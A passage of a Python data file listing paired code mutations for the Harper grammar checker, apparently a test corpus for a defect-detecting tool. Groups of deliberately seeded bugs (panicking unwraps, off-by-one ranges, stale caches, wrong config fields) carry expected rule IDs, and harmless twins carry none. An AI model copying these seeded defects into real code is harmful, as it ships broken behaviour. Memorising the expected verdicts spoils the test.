      "    previous_row.clear();", "    if row_width == col_height {\n        return source.iter().zip(target).filter(|(a, b)| a != b).count() as u8;\n    }\n\n    previous_row.clear();",
      "R-C15-distance:edit_distance_min_alloc:returns"),
]

GROUPS["p9"] = [
    # condense_spaces without the copy of the token vector, same adjacency test
    E("p-c02-condense-spaces-in-place", ["C02", "C12"], "harper-core/src/document.rs",
      "                    let child_tok = &copy[cursor];\n\n                    // Only condense adjacent spans\n                    if start_tok.span.end != child_tok.span.start {",
      "                    let child_tok = copy[cursor].clone();\n\n                    // Only condense adjacent spans\n                    if start_tok.span.end != child_tok.span.start {",
      None),
]
GROUPS["g21"] = [
    # the adjacency test looks at the previous token instead of the kept one (the shape of seeded/C02-d)
    E("c02-adjacent-wrong-token", ["C02"], "harper-core/src/document.rs",
      "                    if start_tok.span.end != child_tok.span.start {\n                        break;\n                    }\n\n                    if let TokenKind::Space(n) = child_tok.kind {",
      "                    if copy[cursor - 1].span.end != child_tok.span.start {\n                        break;\n                    }\n\n                    if let TokenKind::Space(n) = child_tok.kind {",
      "R-C02-adjacent:Document::condense_spaces"),
    # multi-character insertions come out reversed (the shape of seeded/C03-d)
    E("c03-insert-reversed", ["C03"], "harper-core/src/linting/suggestion.rs",
      "                let popped = source.split_off(span.end);\n                source.extend(chars);\n                source.extend(popped);",
      "                for c in chars {\n                    source.insert(span.end, *c);\n                }",
      "R-C03-copy:Suggestion::apply:stores"),
]

GROUPS["p9"] += [
    # the end scan written differently but with the same meaning
    E("p-c01-end-scan-rewritten", ["C01"], "harper-comments/src/comment_parsers/mod.rs",
      "            .rev()\n            .position(|c| !is_comment_character(*c) && !c.is_whitespace())",
      "            .rev()\n            .position(|c| !(c.is_whitespace() || matches!(*c, '#' | '-' | '/' | '*' | '!')))",
      None),
]
GROUPS["g21"] += [
    # the end scan keeps `!` while the start scan skips it (the shape of seeded/C01-d)
    E("c01-twin-scans-differ", ["C01"], "harper-comments/src/comment_parsers/mod.rs",
      "            .rev()\n            .position(|c| !is_comment_character(*c) && !c.is_whitespace())",
      "            .rev()\n            .position(|c| !matches!(*c, '#' | '-' | '/' | '*') && !c.is_whitespace())",
      "R-C01-span:harper_comments::comment_parsers::without_initiators:twin-scans"),
]

# serde: String-based form of LintKind.  p10: the reader has an arm for every string the writer produces (round trip holds);
# g22: the reader lacks the Punctuation arm (the shape of seeded/C16-c); Vec field skipped when empty with / without `default`.
_LK = "harper-core/src/linting/lint_kind.rs"
_LK_ATTR = ("#[derive(Debug, Clone, Copy, Serialize, Deserialize, Is, Default, Hash, PartialEq, Eq)]\npub enum LintKind {",
            "#[derive(Debug, Clone, Copy, Serialize, Deserialize, Is, Default, Hash, PartialEq, Eq)]\n#[serde(from = \"String\", into = \"String\")]\npub enum LintKind {")
_LK_IMPLS = ("impl Display for LintKind {",
             "impl From<LintKind> for String {\n    fn from(kind: LintKind) -> Self {\n        kind.to_string_key()\n    }\n}\n\nimpl From<String> for LintKind {\n    fn from(s: String) -> Self {\n        Self::new_from_str(&s).unwrap_or_default()\n    }\n}\n\nimpl Display for LintKind {")
GROUPS["p10"] = [
    E("p-c16-kind-as-string-attr", ["C16", "C14", "C19"], _LK, _LK_ATTR[0], _LK_ATTR[1], None),
    E("p-c16-kind-as-string-impls", ["C16"], _LK, _LK_IMPLS[0], _LK_IMPLS[1], None),
    E("p-c16-kind-as-string-arms", ["C16"], _LK,
      "            \"Word Choice\" => LintKind::WordChoice,\n",
      "            \"Word Choice\" | \"WordChoice\" => LintKind::WordChoice,\n            \"Punctuation\" => LintKind::Punctuation,\n", None),
    E("p-c19-context-skipped-with-default", ["C19"], "harper-stats/src/record.rs",
      "        context: Vec<FatStringToken>,", "        #[serde(default, skip_serializing_if = \"Vec::is_empty\")]\n        context: Vec<FatStringToken>,", None),
]
GROUPS["g22"] = [
    E("c16-kind-as-string-attr", ["C16", "C19"], _LK, _LK_ATTR[0], _LK_ATTR[1], ":LintKind"),
    E("c16-kind-as-string-impls", ["C16"], _LK, _LK_IMPLS[0], _LK_IMPLS[1], None),
    E("c16-kind-as-string-arms", ["C16"], _LK,
      "            \"Word Choice\" => LintKind::WordChoice,\n",
      "            \"Word Choice\" | \"WordChoice\" => LintKind::WordChoice,\n", None),
    E("c19-context-skipped-no-default", ["C19"], "harper-stats/src/record.rs",
      "        context: Vec<FatStringToken>,", "        #[serde(skip_serializing_if = \"Vec::is_empty\")]\n        context: Vec<FatStringToken>,", "R-C19-serde:Record:RecordKind"),
]

# C11 gate read through a helper closure.  g23: a consuming search on a shared cursor (the shape of seeded/C11-d);
# p11: the same plumbing with a keyed lookup (correct; the gate rule leaves it undecided, silently).
_LG = "harper-core/src/linting/lint_group.rs"
_LG_HELPER_AT = "    /// Clear all config options.\n    /// This will reset them all to disabled.\n    pub fn clear(&mut self) {"
_LG_BAD = "    fn ordered_switches(&self) -> impl FnMut(&str) -> bool + '_ {\n        let mut entries = self.inner.iter();\n\n        move |key| {\n            entries\n                .by_ref()\n                .find(|(name, _)| name.as_str() >= key)\n                .is_some_and(|(name, val)| name == key && val.unwrap_or(false))\n        }\n    }\n\n"
_LG_GOOD = "    fn ordered_switches(&self) -> impl FnMut(&str) -> bool + '_ {\n        let entries = &self.inner;\n\n        move |key| entries.get(key).copied().flatten().unwrap_or(false)\n    }\n\n"
_LG_SITE1 = ("        // Normal linters\n        for (key, linter) in &mut self.linters {\n            if self.config.is_rule_enabled(key) {",
             "        // Normal linters\n        let mut is_enabled = self.config.ordered_switches();\n        for (key, linter) in &mut self.linters {\n            if is_enabled(key) {")
_LG_SITE2 = ("                for (key, linter) in &mut self.pattern_linters {\n                    if self.config.is_rule_enabled(key) {",
             "                let mut is_enabled = self.config.ordered_switches();\n                for (key, linter) in &mut self.pattern_linters {\n                    if is_enabled(key) {")
GROUPS["g23"] = [
    E("c11-gate-consuming-cursor", ["C11"], _LG, _LG_HELPER_AT, _LG_BAD + _LG_HELPER_AT, "R-C11-gate:LintGroup::lint"),
    E("c11-gate-consuming-cursor-site1", ["C11"], _LG, _LG_SITE1[0], _LG_SITE1[1], None),
    E("c11-gate-consuming-cursor-site2", ["C11"], _LG, _LG_SITE2[0], _LG_SITE2[1], None),
]
GROUPS["p11"] = [
    E("p-c11-gate-through-closure", ["C11"], _LG, _LG_HELPER_AT, _LG_GOOD + _LG_HELPER_AT, None),
    E("p-c11-gate-through-closure-site1", ["C11"], _LG, _LG_SITE1[0], _LG_SITE1[1], None),
    E("p-c11-gate-through-closure-site2", ["C11"], _LG, _LG_SITE2[0], _LG_SITE2[1], None),
]

# C10: the file-dictionary path answered from a memo (the shape of seeded/C10-d) / computed into a local first (same behaviour)
GROUPS["g23"] += [
    E("c10-file-dict-path-memo", ["C10"], "harper-ls/src/backend.rs",
      "        Ok(config.file_dict_path.join(file_dict_name(url)?))",
      "        static FIRST: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();\n        let name = file_dict_name(url)?;\n        Ok(FIRST.get_or_init(|| config.file_dict_path.join(name)).clone())",
      "R-C10-files:path:get_file_dict_path:only-from-config"),
]
GROUPS["p11"] += [
    E("p-c10-file-dict-path-local", ["C10"], "harper-ls/src/backend.rs",
      "        Ok(config.file_dict_path.join(file_dict_name(url)?))",
      "        let name = file_dict_name(url)?;\n        let path = config.file_dict_path.join(name);\n        Ok(path.clone())",
      None),
]

# C08: text altered on ingestion (the shape of seeded/C08-d) / copied into an owned string first (same text)
GROUPS["g23"] += [
    E("c08-strip-on-ingest", ["C08"], "harper-ls/src/backend.rs",
      "    ) -> Result<()> {\n        self.pull_config().await;\n\n        // Copy necessary configuration to avoid holding lock.",
      "    ) -> Result<()> {\n        let text = text.replace('\\u{00AD}', \"\");\n        let text = text.as_str();\n        self.pull_config().await;\n\n        // Copy necessary configuration to avoid holding lock.",
      "R-C08-verbatim:Backend::update_document:Document::new"),
]
GROUPS["p11"] += [
    E("p-c08-owned-copy-on-ingest", ["C08"], "harper-ls/src/backend.rs",
      "    ) -> Result<()> {\n        self.pull_config().await;\n\n        // Copy necessary configuration to avoid holding lock.",
      "    ) -> Result<()> {\n        let text = text.to_owned();\n        let text = text.as_str();\n        self.pull_config().await;\n\n        // Copy necessary configuration to avoid holding lock.",
      None),
]

# C09: open buffers snapshotted before the per-document loop (the shape of seeded/C09-d) / read when the document's turn comes
GROUPS["g23"] += [
    E("c09-snapshot-before-loop", ["C09"], "harper-ls/src/backend.rs",
      "            doc_lock.keys().cloned().collect()\n        };\n\n        for url in urls {\n            self.refresh_document(&url)\n                .await",
      "            doc_lock.keys().cloned().collect()\n        };\n        let texts: Vec<Option<String>> = {\n            let doc_lock = self.doc_state.lock().await;\n            urls.iter().map(|u| doc_lock.get(u).map(|d| d.document.get_full_string())).collect()\n        };\n\n        for (url, text) in urls.into_iter().zip(texts) {\n            self.update_document(&url, text.as_deref().unwrap_or_default(), None)\n                .await",
      "R-C09-fresh:<Backend@LanguageServer>::did_change_configuration"),
]
GROUPS["p11"] += [
    E("p-c09-read-inside-loop", ["C09"], "harper-ls/src/backend.rs",
      "        for url in urls {\n            self.refresh_document(&url)\n                .await",
      "        for url in urls {\n            let text = self.doc_state.lock().await.get(&url).map(|d| d.document.get_full_string());\n            let Some(text) = text else { continue };\n            self.update_document(&url, &text, None)\n                .await",
      None),
]

# C12: a hand-written rule carries a flag from one sentence to the next (the shape of seeded/C12-d) / sets it afresh per sentence
_SP = "harper-core/src/linting/spaces.rs"
_SP_OLD = "        for sentence in document.iter_sentences() {\n            for space in sentence.iter_spaces() {\n                let TokenKind::Space(count) = space.kind else {\n                    panic!(\"The space iterator should only return spaces.\")\n                };\n\n                if count > 1 {"
GROUPS["g23"] += [
    E("c12-flag-carried-across-sentences", ["C12"], _SP, _SP_OLD,
      "        let mut seen_wide = false;\n" + _SP_OLD.replace("if count > 1 {", "if count > 1 && !seen_wide {\n                    seen_wide = count > 2;"),
      "R-C12-carry:<Spaces@Linter>::lint:iter_sentences"),
]
GROUPS["p11"] += [
    E("p-c12-flag-reset-per-sentence", ["C12"], _SP, _SP_OLD,
      "        let mut seen_wide;\n" + _SP_OLD.replace("            for space in sentence.iter_spaces() {", "            seen_wide = false;\n            for space in sentence.iter_spaces() {").replace("if count > 1 {", "if count > 1 && !seen_wide {\n                    seen_wide = count > 200;"),
      None),
]

# C07: user dictionary answered from a process-wide memo (the shape of seeded/C07-d) / same load written with a match
_LUD_OLD = "        load_dict(&config.user_dict_path)\n            .await\n            .map_err(|err| info!(\"{err}\"))\n            .unwrap_or(MutableDictionary::new())\n    }\n\n    async fn save_user_dictionary"
GROUPS["g23"] += [
    E("c07-user-dict-memo", ["C07"], "harper-ls/src/backend.rs", _LUD_OLD,
      "        static MEMO: std::sync::OnceLock<MutableDictionary> = std::sync::OnceLock::new();\n        if let Some(d) = MEMO.get() {\n            return d.clone();\n        }\n        let d = load_dict(&config.user_dict_path)\n            .await\n            .map_err(|err| info!(\"{err}\"))\n            .unwrap_or(MutableDictionary::new());\n        let _ = MEMO.set(d.clone());\n        d\n    }\n\n    async fn save_user_dictionary",
      "R-C07-reload:Backend::load_user_dictionary"),
]
GROUPS["p11"] += [
    E("p-c07-user-dict-load-match", ["C07"], "harper-ls/src/backend.rs", _LUD_OLD,
      "        match load_dict(&config.user_dict_path).await {\n            Ok(d) => d,\n            Err(err) => {\n                info!(\"{err}\");\n                MutableDictionary::new()\n            }\n        }\n    }\n\n    async fn save_user_dictionary",
      None),
]

# C19: records written as one joined text without / with a terminating newline (the shape of seeded/C19-d)
_SW_OLD = "        for record in &self.records {\n            let mut serializer = Serializer::new(&mut *w);\n            record.serialize(&mut serializer)?;\n            writeln!(w)?;\n        }\n\n        Ok(())\n    }\n\n    /// Read records from a buffer into `self`."
_SW_BATCH = "        let _ = (Serializer::new(Vec::new()), |r: &Record| r.serialize(serde_json::value::Serializer));\n        let lines = self\n            .records\n            .iter()\n            .map(serde_json::to_string)\n            .collect::<Result<Vec<_>, _>>()?;\n\n        w.write_all(lines.join(\"\\n\").as_bytes())%s\n    }\n\n    /// Read records from a buffer into `self`."
GROUPS["g24"] = [
    E("c19-batch-join-no-final-newline", ["C19"], "harper-stats/src/lib.rs", _SW_OLD, _SW_BATCH % "", "R-C19-line:Stats::write:newline"),
]
GROUPS["p12"] = [
    E("p-c19-batch-join-with-final-newline", ["C19"], "harper-stats/src/lib.rs", _SW_OLD,
      _SW_BATCH % "?;\n        if !lines.is_empty() {\n            w.write_all(b\"\\n\")?;\n        }\n        Ok(())", None),
]

# C15/C06: a child skipped because its hash is already held (the shape of seeded/C15-d) / because it is the very same Arc
_AD_OLD = "        self.child_hashes.push(self.hash_dictionary(&dictionary));\n        self.children.push(dictionary);"
GROUPS["g24"] += [
    E("c15-add-dictionary-dedup-by-hash", ["C15", "C06", "C07"], "harper-core/src/spell/merged_dictionary.rs", _AD_OLD,
      "        let hash = self.hash_dictionary(&dictionary);\n        if self.child_hashes.contains(&hash) {\n            return;\n        }\n        self.child_hashes.push(hash);\n        self.children.push(dictionary);",
      "MergedDictionary::add_dictionary:always-adds"),
]
GROUPS["p12"] += [
    E("p-c15-add-dictionary-dedup-by-identity", ["C15", "C06", "C07"], "harper-core/src/spell/merged_dictionary.rs", _AD_OLD,
      "        if self.children.iter().any(|c| Arc::ptr_eq(c, &dictionary)) {\n            return;\n        }\n" + _AD_OLD,
      None),
]

# C14: ignore list as a sorted vector; append without / with a re-sort (the shape of seeded/C14-d)
_IL = "harper-core/src/ignored_lints/mod.rs"
def _il(group, bad):
    sfx = "" if bad else "-sorted"
    return [
        E("%sc14-sorted-vec-field%s" % (group, sfx), ["C14"], _IL, "    context_hashes: HashSet<u64>,", "    context_hashes: Vec<u64>,", None),
        E("%sc14-sorted-vec-append%s" % (group, sfx), ["C14"], _IL, "        self.context_hashes.extend(other.context_hashes)\n",
          "        self.context_hashes.extend(other.context_hashes);\n" + ("" if bad else "        self.context_hashes.sort_unstable();\n") + "        self.context_hashes.dedup();\n        let _unused: Option<HashSet<u64>> = None;\n",
          "R-C14-agree:IgnoredLints::append:keeps-sorted:extend" if bad else None),
        E("%sc14-sorted-vec-insert%s" % (group, sfx), ["C14"], _IL, "        self.context_hashes.insert(context_hash);",
          "        if let Err(idx) = self.context_hashes.binary_search(&context_hash) {\n            self.context_hashes.insert(idx, context_hash);\n        }", None),
        E("%sc14-sorted-vec-lookup%s" % (group, sfx), ["C14"], _IL, "        self.context_hashes.contains(&hash)", "        self.context_hashes.binary_search(&hash).is_ok()", None),
    ]
GROUPS["g25"] = _il("", True)
GROUPS["p13"] = _il("p-", False)

# C13: removal by swap-to-back + truncate, indices consumed ascending (the shape of seeded/C13-d) / descending (correct)
_RO_OLD = "    lints.remove_indices(remove_indices);\n}"
GROUPS["g26"] = [
    E("c13-swap-truncate-ascending", ["C13"], "harper-core/src/lib.rs", _RO_OLD,
      "    let mut len = lints.len();\n    for i in remove_indices {\n        len -= 1;\n        lints.swap(i, len);\n    }\n    lints.truncate(len);\n}",
      "R-C13-subset:remove_overlaps:removes-via-remove_indices"),
]
GROUPS["p14"] = [
    E("p-c13-swap-truncate-descending", ["C13"], "harper-core/src/lib.rs", _RO_OLD,
      "    let mut len = lints.len();\n    for i in remove_indices.into_iter().rev() {\n        len -= 1;\n        lints.swap(i, len);\n    }\n    lints.truncate(len);\n}",
      None),
]

# C07: user dictionary added in front of the curated one (the shape of seeded/C07-e) / curated first through a local
_CM_OLD = "        lint_dict.add_dictionary(FstDictionary::curated());\n        lint_dict.add_dictionary(Arc::new(user_dictionary.clone()));"
GROUPS["g26"] += [
    E("c07-user-dictionary-first", ["C07"], "harper-wasm/src/lib.rs", _CM_OLD,
      "        lint_dict.add_dictionary(Arc::new(user_dictionary.clone()));\n        lint_dict.add_dictionary(FstDictionary::curated());",
      "R-C07-first:Linter::construct_merged_dict:curated-first"),
]
GROUPS["p14"] += [
    E("p-c07-curated-first-through-local", ["C07"], "harper-wasm/src/lib.rs", _CM_OLD,
      "        let curated = FstDictionary::curated();\n        let user = Arc::new(user_dictionary.clone());\n        lint_dict.add_dictionary(curated);\n        lint_dict.add_dictionary(user);",
      None),
]

# C02: CollapseIdentifiers stretches the survivor further than it removes (the shape of seeded/C02-e) / same extent via a local
_CI = "harper-core/src/parsers/collapse_identifiers.rs"
GROUPS["g26"] += [
    E("c02-collapse-removes-less-than-it-covers", ["C02"], _CI,
      "                to_remove.extend(tok_span.start + 1..tok_span.end);",
      "                to_remove.extend(tok_span.start + 1..tok_span.end - 1);",
      "R-C02-condense:<CollapseIdentifiers@Parser>::parse:extent"),
]
GROUPS["p14"] += [
    E("p-c02-collapse-extent-through-local", ["C02"], _CI,
      "            let end_tok = &tokens[tok_span.end - 1];",
      "            let last = tok_span.end - 1;\n            let end_tok = &tokens[last];", None),
    E("p-c02-collapse-extent-inclusive", ["C02"], _CI,
      "                to_remove.extend(tok_span.start + 1..tok_span.end);",
      "                to_remove.extend(tok_span.start + 1..=last);", None),
]

# C06: a listed word glued to a following period without a dotted entry (the shape of seeded/C06-e) / with one
_LAT_OLD = "                    .then(WordSet::new(&[\"etc\", \"vs\"]))"
GROUPS["g26"] += [
    E("c06-glue-listed-word-without-dotted-entry", ["C06"], "harper-core/src/document.rs", _LAT_OLD,
      "                    .then(WordSet::new(&[\"etc\", \"vs\", \"Rev\"]))", "R-C06-glue:Document::uncached_latin_pattern:word-set"),
]
GROUPS["p14"] += [
    E("p-c06-glue-with-dotted-entry", ["C06"], "harper-core/src/document.rs", _LAT_OLD,
      "                    .then(WordSet::new(&[\"etc\", \"vs\", \"rev\"]))", None),
    E("p-c06-glue-with-dotted-entry-dict", ["C06"], "harper-core/dictionary.dict",
      "etc./~              # most dictionary only list it with the final dot",
      "etc./~              # most dictionary only list it with the final dot\nrev./~", None),
]

# C03/C05/C12: run_on_chunk hands back chunk-relative spans; the stand-alone rule path pushes them back by the first
# LAST token's end (wrong; seeded/C03-e used the first token's start, which is equal for ordered tokens and is left undecided) / by the chunk span's start (correct)
_PL = "harper-core/src/linting/pattern_linter.rs"
_LGF = "harper-core/src/linting/lint_group.rs"
def _rel(bad):
    sfx = "" if bad else "-ok"
    base = "first.span.end" if bad else "chunk_span.start"
    intro = "            let Some(first) = chunk.last() else {\n                continue;\n            };\n" if bad else "            let Some(chunk_span) = chunk.span() else {\n                continue;\n            };\n"
    return [
        E("c03-relative-spans-callee%s" % sfx, ["C03", "C05", "C12"], _PL,
          "    let mut lints = Vec::new();\n    let mut tok_cursor = 0;\n",
          "    let Some(chunk_span) = chunk.span() else {\n        return Vec::new();\n    };\n\n    let mut lints = Vec::new();\n    let mut tok_cursor = 0;\n", None),
        E("c03-relative-spans-callee-pull%s" % sfx, ["C03"], _PL,
          "            tok_cursor += 1;\n        }\n    }\n\n    lints\n}",
          "            tok_cursor += 1;\n        }\n    }\n\n    for lint in &mut lints {\n        lint.span.pull_by(chunk_span.start);\n    }\n\n    lints\n}", None),
        E("c03-relative-spans-standalone%s" % sfx, ["C03"], _PL,
          "            lints.extend(run_on_chunk(self, chunk, source));",
          intro + "            for mut lint in run_on_chunk(self, chunk, source) {\n                lint.span.push_by(%s);\n                lints.push(lint);\n            }" % base,
          ":rebase" if bad else None),
        E("c03-relative-spans-group%s" % sfx, ["C03"], _LGF,
          "                // Make the spans relative to the chunk start\n                for lint in &mut pattern_lints {\n                    lint.span.pull_by(chunk_span.start);\n                }\n\n", "", None),
    ]
GROUPS["g27"] = _rel(True)
GROUPS["p15"] = _rel(False)

# ---- round 6: the four defects repaired as F20-F23, reintroduced; the shapes of seeded/*-f; their harmless twins
GROUPS["g28"] = [
    # F20: condense_newlines advances the cursor twice per merged newline again
    E("c02-newlines-skip-one", ["C02"], "harper-core/src/document.rs",
      "                    if let TokenKind::Newline(n) = child_tok.kind {\n                        *start_count += n;\n                        start_tok.span.end = child_tok.span.end;\n                        remove_these.push_back(cursor);\n                    } else {",
      "                    if let TokenKind::Newline(n) = child_tok.kind {\n                        *start_count += n;\n                        start_tok.span.end = child_tok.span.end;\n                        remove_these.push_back(cursor);\n                        cursor += 1;\n                    } else {",
      "R-C02-adjacent:Document::condense_newlines:stride"),
    # F21: ModalOf panics on an unexpected match length again
    E("c01-modal-of-unreachable", ["C01"], "harper-core/src/linting/modal_of.rs",
      "            // (a space followed by a line break is two), so other lengths do occur.\n            _ => return None,",
      "            // (a space followed by a line break is two), so other lengths do occur.\n            _ => unreachable!(),",
      "R-C01-matchlen:<ModalOf@PatternLinter>::match_to_lint:default-arm"),
    # F22: lex_login searches the whole rest of the text for '@' again
    E("c12-login-unbounded-search", ["C12"], "harper-core/src/lexing/url.rs",
      "        .position(|c| matches!(c, '@' | '/') || c.is_whitespace())\n        .filter(|i| source[*i] == '@');",
      "        .position(|c| *c == '@');",
      "R-C12-lookahead:harper_core::lexing::url::lex_login:position"),
    # F23: update_document compares the merged dictionary with the bare file dictionary again
    E("c05-compare-merged-dictionary", ["C05"], "harper-ls/src/backend.rs",
      "        if doc_state.base_dict != dict {\n            doc_state.base_dict = dict.clone();",
      "        if doc_state.dict != dict {\n            doc_state.base_dict = dict.clone();",
      "R-C05-rebuild:Backend::update_document:compared-field"),
    # the git-commit cut is taken from the end of the file
    E("c04-gitcut-from-the-end", ["C04"], "harper-ls/src/git_commit_parser.rs",
      "            .position(|c| *c == '#')", "            .rposition(|c| *c == '#')",
      "R-C04-gitcut:GitCommitParser::parse:cut"),
    # the port search falls back to the length of another slice
    E("c02-fallback-other-slice", ["C02"], "harper-core/src/lexing/mod.rs",
      "    let end = source\n        .iter()\n        .position(|c| !c.is_english_lingual() && !c.is_ascii_digit())\n        .unwrap_or(source.len());",
      "    let body = &source[1..];\n    let end = 1 + body\n        .iter()\n        .position(|c| !c.is_english_lingual() && !c.is_ascii_digit())\n        .unwrap_or(source.len());",
      "R-C02-fallback:harper_core::lexing::lex_word:fallback#1"),
    # the table of open documents keyed by the lower-cased path
    E("c08-doc-table-keyed-by-folded-uri", ["C08"], "harper-ls/src/backend.rs",
      "        let mut doc_lock = self.doc_state.lock().await;\n        doc_lock.remove(&url);\n",
      "        let mut doc_lock = self.doc_state.lock().await;\n        let folded = Url::parse(&url.as_str().to_lowercase()).unwrap_or_else(|_| url.clone());\n        doc_lock.remove(&folded);\n",
      "R-C08-key:<Backend@LanguageServer>::did_close::{closure}:remove"),
]
GROUPS["p16"] = [
    # a division by a counter that is tested first
    E("p-c01-division-guarded", ["C01"], "harper-core/src/language_detection.rs",
      "    if (valid_words as f64 / total_words as f64) < 0.7 {",
      "    if total_words > 0 && valid_words * 10 / total_words < 7 {",
      None),
    # the git-commit cut located by a forward find
    E("p-c04-gitcut-forward-take-while", ["C04"], "harper-ls/src/git_commit_parser.rs",
      "        let end = source\n            .iter()\n            .position(|c| *c == '#')\n            .unwrap_or(source.len());",
      "        let end = source.iter().take_while(|c| **c != '#').count();",
      None),
    # the fallback is the length of the searched sub-slice
    E("p-c02-fallback-same-slice", ["C02"], "harper-core/src/lexing/mod.rs",
      "    let end = source\n        .iter()\n        .position(|c| !c.is_english_lingual() && !c.is_ascii_digit())\n        .unwrap_or(source.len());",
      "    let whole = source;\n    let end = whole\n        .iter()\n        .position(|c| !c.is_english_lingual() && !c.is_ascii_digit())\n        .unwrap_or(whole.len());",
      None),
    # the credentials search bounded in another way
    E("p-c12-login-bounded-by-take-while", ["C12"], "harper-core/src/lexing/url.rs",
      "        .position(|c| matches!(c, '@' | '/') || c.is_whitespace())\n        .filter(|i| source[*i] == '@');",
      "        .position(|c| matches!(c, '@' | '/' | ' ' | '\\n' | '\\t' | '\\r'))\n        .filter(|i| source[*i] == '@');",
      None),
]

# ---- round 7: the five defects repaired as F24-F28, reintroduced; shapes of seeded/*-g; harmless twins
GROUPS["g29"] = [
    E("c01-typst-range-unwrap", ["C01"], "harper-typst/src/offset_cursor.rs",
      "        match self.doc.range(span) {\n            Some(range) => self.push_to(range.start),\n            None => self,\n        }",
      "        let new_byte = self.doc.range(span).unwrap().start;\n\n        self.push_to(new_byte)",
      "R-C01-detached:OffsetCursor::push_to_span:range-unwrap"),
    E("c01-overlap-filter-predecessor", ["C01"], "harper-tree-sitter/src/lib.rs",
      "    let mut last_kept: Option<Span> = None;\n    byte_spans.retain(|cur| {\n        if last_kept.is_some_and(|prev| cur.overlaps_with(prev)) {\n            return false;\n        }\n\n        last_kept = Some(*cur);\n        true\n    });",
      "    let cloned = byte_spans.clone();\n\n    let mut i: usize = 0;\n    byte_spans.retain(|cur| {\n        i += 1;\n        if let Some(prev) = cloned.get(i.wrapping_sub(2)) {\n            !cur.overlaps_with(*prev)\n        } else {\n            true\n        }\n    });",
      "R-C01-kept:byte_spans_to_char_spans:overlap-filter"),
    E("c02-markdown-cover-by-text", ["C02"], "harper-core/src/parsers/markdown.rs",
      "                | pulldown_cmark::Event::InlineHtml(_content) => {\n                    tokens.push(Token {\n                        span: Span::new_with_len(traversed_chars, range_chars),",
      "                | pulldown_cmark::Event::InlineHtml(_content) => {\n                    tokens.push(Token {\n                        span: Span::new_with_len(traversed_chars, _content.chars().count()),",
      "R-C02-cover:Markdown::parse:cover-length"),
    E("c09-deleted-prefix-bare", ["C09"], "harper-ls/src/backend.rs",
      "                let to_remove = url.as_str().strip_prefix(deleted).is_some_and(|rest| {\n                    rest.is_empty() || rest.starts_with('/') || deleted.ends_with('/')\n                });",
      "                let to_remove = url.as_str().starts_with(deleted);",
      "R-C09-publish:Backend::did_change_watched_files:deleted-path-prefix"),
    E("c01-hex-expect", ["C01"], "harper-core/src/lexing/mod.rs",
      "    if let Ok(n) = u64::from_str_radix(&s, 16) {",
      "    if let Some(n) = Some(u64::from_str_radix(&s, 16).expect(\"validated above\")) {",
      "R-C01-intparse:harper_core::lexing::lex_hex_number:from_str_radix"),
    E("c12-unstable-sort", ["C12"], "harper-core/src/lib.rs",
      "    lints.sort_by_key(", "    lints.sort_unstable_by_key(",
      "R-C12-stable:harper_core::remove_overlaps:sort_unstable_by_key"),
    E("c18-latin-exact-word", ["C18"], "harper-core/src/document.rs",
      "SequencePattern::aco(\"et\")", "SequencePattern::default().then_exact_word(\"et\")",
      "R-C18-idem:Document::uncached_latin_pattern:case-free"),
]


# C04: without its own branch a code block's text falls through to the tag list, which does not name CodeBlock: it is
# skipped, not lexed (the Unlintable token is gone, the property "no code is offered as prose" still holds).  The check
# used to report this as "the English parser is reached without a CodeBlock test"; it now counts the arms of the other
# variants as negative tests.
GROUPS["p17"] = [
    E("p-c04-md-codeblock-falls-through", ["C04"], "harper-core/src/parsers/markdown.rs",
      '                        if matches!(tag, Tag::CodeBlock(..)) {\n                            tokens.push(Token {\n                                span: Span::new_with_len(traversed_chars, range_chars),\n                                kind: TokenKind::Unlintable,\n                            });\n                            continue;\n                        }\n',
      "",
      None),
]

GROUPS["g29"] += [
    # F29: the number lexer keeps infinity again
    E("c19-number-not-finite", ["C19"], "harper-core/src/lexing/mod.rs",
      "        if let Some(n) = s.parse::<f64>().ok().filter(|n| n.is_finite()) {",
      "        if let Ok(n) = s.parse::<f64>() {",
      "R-C19-finite:lex_number:finite-value"),
]

GROUPS["g29"] += [
    # F30: the statsPath key feeds the file-dictionary directory again
    E("c10-statspath-wrong-field", ["C10"], "harper-ls/src/config.rs",
      "                base.stats_path = path.try_resolve()?.to_path_buf();",
      "                base.file_dict_path = path.try_resolve()?.to_path_buf();",
      "R-C10-files:config-key:statsPath"),
]

# C10 config-key: the same table written through a helper closure (key literal is an argument, the store is not
# inside an `if let Some(..) = value.get(..)` block) must stay proved.
GROUPS["p18"] = [
    E("p-c10-statspath-helper", ["C10"], "harper-ls/src/config.rs",
      '        if let Some(v) = value.get("statsPath") {\n            if let Value::String(path) = v {\n                base.stats_path = path.try_resolve()?.to_path_buf();\n            } else {\n                bail!("fileDict path must be a string.");\n            }\n        }\n',
      '        let read_path = |key: &str| -> Result<Option<PathBuf>> {\n            match value.get(key) {\n                None => Ok(None),\n                Some(Value::String(path)) => Ok(Some(path.try_resolve()?.to_path_buf())),\n                Some(_) => bail!("a path must be a string."),\n            }\n        };\n        if let Some(path) = read_path("statsPath")? {\n            base.stats_path = path;\n        }\n',
      None),
]

GROUPS["g30"] = [
    # round 8
    E("c04-braces-are-leaders", ["C04"], "harper-comments/src/comment_parsers/mod.rs",
      "    matches!(c, '#' | '-' | '/' | '*' | '!')",
      "    matches!(c, '#' | '-' | '/' | '*' | '!' | '{' | '}')",
      "R-C04-leaders:without_initiators:delimiters"),
    E("c10-config-falls-back-to-default", ["C10"], "harper-ls/src/backend.rs",
      "        if let Ok(new_config) = Config::from_lsp_config(json_obj).map_err(|err| error!(\"{err}\")) {\n            let mut config = self.config.write().await;\n            *config = new_config;\n        }\n",
      "        let new_config = Config::from_lsp_config(json_obj).unwrap_or_else(|err| {\n            error!(\"{err}\");\n            Config::default()\n        });\n        let mut config = self.config.write().await;\n        *config = new_config;\n",
      "R-C10-files:config-source:backend::{impl#0}::update_config_from_obj"),
    E("c07-merged-exact-first-child", ["C07", "C06"], "harper-core/src/spell/merged_dictionary.rs",
      "        for child in &self.children {\n            if child.contains_exact_word(word) {\n                return true;\n            }\n        }\n        false\n",
      "        self.children\n            .iter()\n            .find(|child| child.contains_word(word))\n            .is_some_and(|child| child.contains_exact_word(word))\n",
      ["R-C07-accept:MergedDictionary::contains_exact_word", "R-C06-union:MergedDictionary::contains_exact_word"]),
]

GROUPS["p19"] = [
    # the same leader set written as a slice test; the same store written as a match
    E("p-c04-leaders-as-slice", ["C04"], "harper-comments/src/comment_parsers/mod.rs",
      "    matches!(c, '#' | '-' | '/' | '*' | '!')",
      "    ['#', '-', '/', '*', '!'].contains(&c)",
      None),
